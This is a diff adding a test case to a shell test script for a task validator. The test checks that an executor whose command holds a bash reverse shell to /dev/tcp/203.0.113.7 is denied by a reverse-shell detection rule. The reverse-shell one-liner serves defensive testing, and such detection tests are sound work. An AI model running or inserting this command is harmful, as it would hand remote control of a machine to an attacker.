@@ -85,6 +85,13 @@ else
     fail "findings, sandbox and digest identical to portcullis scan --format json" "$(head -c 600 "$T/scan.json") vs $(head -c 600 "$T/bad1.answer")"
 fi
 
+# --- the executor's own command: a reverse shell in its arguments, with
+# the clean image (TES tasks are often bash -c one-liners)
+jq '.executors[0].command = ["/app/run", "-c", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"]' "$T/clean1.json" >"$T/revshell.json"
+req POST "$V" "$T/revshell.json"
+code_is "validate: clean image, reverse shell in the command" 200
+jq_true "revshell: denied on the command line itself (suspicious-tool without a path)" '.allowed == false and .executors[0].verdict == "deny" and ([.executors[0].findings[] | select(.check == "suspicious-tool" and .path == null and .rule == "revshell_bash_dev_tcp")] | length == 1)'
+
 # --- several executors, mixed verdicts
 fill_task "$TREQ/several-executors.json" "$T/several.json" "$CLEAN" "$R/app/clean@$CLEAN_DIGEST"
 req POST "$V" "$T/several.json"
